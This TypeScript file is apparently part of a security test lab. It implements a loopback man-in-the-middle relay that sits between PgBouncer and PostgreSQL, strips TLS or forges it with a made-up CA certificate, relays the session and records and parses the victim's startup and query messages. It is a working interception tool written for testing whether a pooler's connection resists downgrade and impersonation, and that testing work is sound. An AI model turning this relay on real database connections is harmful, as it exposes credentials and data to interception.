/**
 * An attacker on a pooler's upstream leg, for the lab: a loopback TCP relay between a pooler (PgBouncer) and the
 * real PostgreSQL that strips TLS (answers `N` to the pooler's SSLRequest) or forges it (answers `S` and completes
 * the handshake with a certificate of a CA made up for the run), then passes every byte both ways and records
 * what it read, decrypted and bounded.
 *
 * src/mitm/proxy.ts cannot stand here: it plays the server, or relays only the login and then takes the session
 * over, so the pooler would never get its session back and no query of the application would pass. Here the whole
 * session goes through, the application works as before, and the test reads what the attacker saw. The lab may
 * import only tls/ (test/architecture/imports.test.ts), so the few startup packets are framed here.
 */
import { createServer, type Server, Socket } from "node:net";
import { Transform } from "node:stream";
import { TLSSocket, connect as tlsConnect } from "node:tls";
import type { Issued } from "../tls/certs.js";

export interface LegAttackerOptions {
  /** strip: answer N to SSLRequest and relay the plaintext; forge: answer S, present `certificate`, relay. */
  mode: "strip" | "forge";
  /** forge: the certificate presented to the victim (one its CA does not know, or one for the wrong name). */
  certificate?: Issued;
  /**
   * The real server. The attacker asks it for TLS itself (without checking its certificate: it knows where it
   * dials), so a hostssl-only server still takes the relayed session and sees it as encrypted.
   */
  upstream: { host: string; port: number };
  /** Life of each relayed connection, handshakes included; then both sides are destroyed. */
  timeoutMs: number;
  /** Bytes recorded per direction and connection (the relay itself goes on). Default 256 KiB. */
  maxRecordedBytes?: number;
}

export interface LegConnection {
  /** The victim's first packet was an SSLRequest. */
  askedTls: boolean;
  /** forge: the victim completed the TLS handshake with the attacker's certificate. */
  tlsEstablished: boolean;
  /** forge: why the victim's handshake failed (its alert, as OpenSSL words it). */
  tlsRefused?: string;
  /** The relay to the real server was open (the victim sent its StartupMessage). */
  relayed: boolean;
  steps: string[];
  /** What the victim sent after its SSLRequest, as the attacker read it: its StartupMessage and every message. */
  fromVictim: Buffer;
  fromServer: Buffer;
}

export interface LegAttacker {
  host: string;
  port: number;
  connections(): readonly LegConnection[];
  close(): Promise<void>;
}

const HOST = "127.0.0.1";
const DEFAULT_MAX_RECORDED = 256 * 1024;
/** A pooler opens one server connection per pool and a few more on retries; more is not this lab's victim. */
const MAX_CONNECTIONS = 8;
const SSL_REQUEST = 80877103;
const GSSENC_REQUEST = 80877104;

/** Resolves with the first `n` bytes (and anything after them) the socket sends, or why none came. */
function readAtLeast(socket: Socket, n: number, deadline: number): Promise<Buffer | "closed" | "timeout"> {
  return new Promise((resolve) => {
    let got = Buffer.alloc(0);
    const finish = (v: Buffer | "closed" | "timeout") => {
      clearTimeout(timer);
      socket.off("data", onData);
      socket.off("close", onClose);
      socket.pause();
      resolve(v);
    };
    const onData = (b: Buffer) => {
      got = Buffer.concat([got, b]);
      if (got.length >= n) finish(got);
    };
    const onClose = () => finish("closed");
    const timer = setTimeout(() => finish("timeout"), Math.max(0, deadline - Date.now()));
    socket.on("data", onData);
    socket.once("close", onClose);
    socket.resume();
  });
}

/** Appends to a bounded record: the first `max` bytes are kept. */
function recorder(c: LegConnection, side: "fromVictim" | "fromServer", max: number) {
  return (b: Buffer) => {
    const room = max - c[side].length;
    if (room > 0) c[side] = Buffer.concat([c[side], b.subarray(0, room)]);
  };
}

const tap = (record: (b: Buffer) => void) =>
  new Transform({
    transform(chunk: Buffer, _enc, done) {
      record(chunk);
      done(null, chunk);
    },
  });

/** Opens the attacker's own connection to the real server: TCP, SSLRequest, an unverified TLS session. */
async function dialServer(o: LegAttackerOptions, deadline: number): Promise<TLSSocket> {
  const raw = await new Promise<Socket>((resolve, reject) => {
    const s = new Socket();
    s.setTimeout(Math.max(1, deadline - Date.now()), () => s.destroy(new Error("connect timed out")));
    s.once("error", reject);
    s.connect(o.upstream.port, o.upstream.host, () => {
      s.setTimeout(0);
      s.off("error", reject);
      resolve(s);
    });
  });
  const request = Buffer.alloc(8);
  request.writeInt32BE(8, 0);
  request.writeInt32BE(SSL_REQUEST, 4);
  raw.write(request);
  const answer = await readAtLeast(raw, 1, deadline);
  if (typeof answer === "string" || answer.toString("latin1") !== "S") {
    raw.destroy();
    throw new Error(
      `the real server answered ${typeof answer === "string" ? `nothing (${answer})` : JSON.stringify(answer.toString("latin1", 0, 1))} to SSLRequest`,
    );
  }
  return new Promise((resolve, reject) => {
    // The attacker does not care who the server is; what it relays is what it reads.
    const t = tlsConnect({ socket: raw, rejectUnauthorized: false });
    t.once("secureConnect", () => {
      t.off("error", reject);
      resolve(t);
    });
    t.once("error", reject);
  });
}

/** Completes the victim's TLS handshake with the forged certificate; a refusal is its alert, as OpenSSL words it. */
function acceptTls(
  socket: Socket,
  certificate: Issued,
  deadline: number,
): Promise<TLSSocket | { refused: string }> {
  const tls = new TLSSocket(socket, { isServer: true, cert: certificate.certPem, key: certificate.keyPem });
  return new Promise((resolve) => {
    const timer = setTimeout(
      () => {
        tls.destroy();
        resolve({ refused: "no TLS handshake before the deadline" });
      },
      Math.max(0, deadline - Date.now()),
    );
    tls.once("secure", () => {
      clearTimeout(timer);
      resolve(tls);
    });
    tls.once("error", (e) => {
      clearTimeout(timer);
      tls.destroy();
      resolve({ refused: e.message });
    });
    tls.once("close", () => {
      clearTimeout(timer);
      resolve({ refused: "the victim closed the connection during the handshake" });
    });
  });
}

async function handle(socket: Socket, c: LegConnection, o: LegAttackerOptions, max: number): Promise<void> {
  const step = (s: string) => c.steps.push(s);
  const deadline = Date.now() + o.timeoutMs;
  // Everything this connection opened is destroyed at the deadline, whatever state it is in.
  const open = new Set<Socket>([socket]);
  // Set before the destroy: a read waiting on the victim may hear this close before its own timer, due the same
  // millisecond, fires; the close is then the deadline's, not the victim's.
  let cutOff = false;
  const timer = setTimeout(() => {
    cutOff = true;
    for (const s of open) s.destroy();
  }, o.timeoutMs);
  socket.once("close", () => clearTimeout(timer));
  let victim: Socket = socket;
  let first: Buffer | undefined;
  /** What the victim did instead of sending its next packet. */
  const stopped = (why: "closed" | "timeout") => {
    step(
      why === "timeout" || cutOff
        ? "the victim sent nothing more before the deadline"
        : c.askedTls && o.mode === "strip" && !c.tlsEstablished
          ? "the victim closed the connection after N: it insists on TLS"
          : "the victim closed the connection",
    );
    victim.destroy();
  };
  // At most one GSSENCRequest, then an SSLRequest or the StartupMessage itself.
  for (let round = 0; round < 3 && first === undefined; round++) {
    const got = await readAtLeast(victim, 8, deadline);
    if (typeof got === "string") return stopped(got);
    first = got;
    const code = first.readInt32BE(4);
    if (first.readInt32BE(0) !== 8 || (code !== SSL_REQUEST && code !== GSSENC_REQUEST)) break;
    if (first.length > 8) victim.unshift(first.subarray(8));
    first = undefined;
    if (code === GSSENC_REQUEST) {
      step("the victim asked for GSS encryption; attacker answered N");
      victim.write("N");
      continue;
    }
    c.askedTls = true;
    if (o.mode === "strip") {
      step("the victim asked for TLS (SSLRequest); attacker answered N");
      victim.write("N");
      continue;
    }
    if (!o.certificate) throw new Error("leg attacker: forge needs a certificate");
    step("the victim asked for TLS (SSLRequest); attacker answered S and presented its own certificate");
    victim.write("S");
    const upgraded = await acceptTls(victim, o.certificate, deadline);
    if (!(upgraded instanceof TLSSocket)) {
      c.tlsRefused = upgraded.refused;
      step(`the victim refused the attacker's certificate: ${upgraded.refused}`);
      return;
    }
    c.tlsEstablished = true;
    step(`the victim completed TLS with the attacker's certificate (${upgraded.getProtocol() ?? "TLS"})`);
    victim = upgraded;
    open.add(victim);
  }
  if (first === undefined) {
    step("the victim sent a third negotiation request; attacker closed the connection");
    victim.destroy();
    return;
  }
  let server: TLSSocket;
  try {
    server = await dialServer(o, deadline);
  } catch (e) {
    step(`attacker could not reach the real server: ${(e as Error).message}`);
    victim.destroy();
    return;
  }
  open.add(server);
  c.relayed = true;
  step("attacker relays to the real server over its own TLS session");
  const fromVictim = recorder(c, "fromVictim", max);
  const fromServer = recorder(c, "fromServer", max);
  fromVictim(first);
  server.write(first);
  const end = () => {
    for (const s of open) s.destroy();
  };
  for (const s of open) {
    s.once("close", end);
    s.once("error", end);
  }
  victim.pipe(tap(fromVictim)).pipe(server);
  server.pipe(tap(fromServer)).pipe(victim);
  victim.resume();
}

/** Starts the attacker on a free port of 127.0.0.1; the victim (the pooler) is pointed at it. */
export async function startLegAttacker(o: LegAttackerOptions): Promise<LegAttacker> {
  if (o.mode === "forge" && !o.certificate) throw new Error("startLegAttacker: forge needs a certificate");
  const max = o.maxRecordedBytes ?? DEFAULT_MAX_RECORDED;
  const seen: LegConnection[] = [];
  const sockets = new Set<Socket>();
  const server: Server = createServer((socket) => {
    sockets.add(socket);
    socket.once("close", () => sockets.delete(socket));
    socket.on("error", () => {});
    if (seen.length >= MAX_CONNECTIONS) {
      socket.destroy();
      return;
    }
    const c: LegConnection = {
      askedTls: false,
      tlsEstablished: false,
      relayed: false,
      steps: [],
      fromVictim: Buffer.alloc(0),
      fromServer: Buffer.alloc(0),
    };
    seen.push(c);
    socket.pause();
    handle(socket, c, o, max).catch((e) => {
      c.steps.push(`attacker error: ${(e as Error).message}`);
      socket.destroy();
    });
  });
  await new Promise<void>((resolve, reject) => {
    server.once("error", reject);
    server.listen(0, HOST, () => resolve());
  });
  const address = server.address();
  if (!address || typeof address === "string") throw new Error("leg attacker: no port");
  return {
    host: HOST,
    port: address.port,
    connections: () => seen,
    close: () =>
      new Promise<void>((resolve) => {
        for (const s of sockets) s.destroy();
        server.close(() => resolve());
      }),
  };
}

/** One message the attacker read: the victim's StartupMessage (its parameters), or a typed message's body. */
export type WireMessage =
  | { type: "startup"; params: Record<string, string> }
  | { type: string; body: Buffer };

/** Typed messages (byte type, int32 length, body) from `at`; stops at a truncated or malformed one. */
function typedMessages(stream: Buffer, at: number): WireMessage[] {
  const out: WireMessage[] = [];
  while (at + 5 <= stream.length) {
    const size = stream.readInt32BE(at + 1);
    if (size < 4 || at + 1 + size > stream.length) break;
    out.push({
      type: String.fromCharCode(stream[at] as number),
      body: stream.subarray(at + 5, at + 1 + size),
    });
    at += 1 + size;
  }
  return out;
}

/**
 * The victim's recorded stream as messages: its StartupMessage (int32 length, int32 protocol, name/value pairs),
 * then typed messages. Stops at a truncated message (the record is bounded).
 */
export function frontendMessages(stream: Buffer): WireMessage[] {
  if (stream.length < 8) return [];
  const len = stream.readInt32BE(0);
  if (len < 8 || len > stream.length) return [];
  const fields = stream.subarray(8, len).toString("utf8").split("\0");
  const params: Record<string, string> = {};
  for (let i = 0; i + 1 < fields.length && fields[i] !== ""; i += 2)
    params[fields[i] as string] = fields[i + 1] ?? "";
  return [{ type: "startup", params }, ...typedMessages(stream, len)];
}

/** The server's recorded stream as typed messages (authentication requests, RowDescription, DataRow, …). */
export function backendMessages(stream: Buffer): WireMessage[] {
  return typedMessages(stream, 0);
}
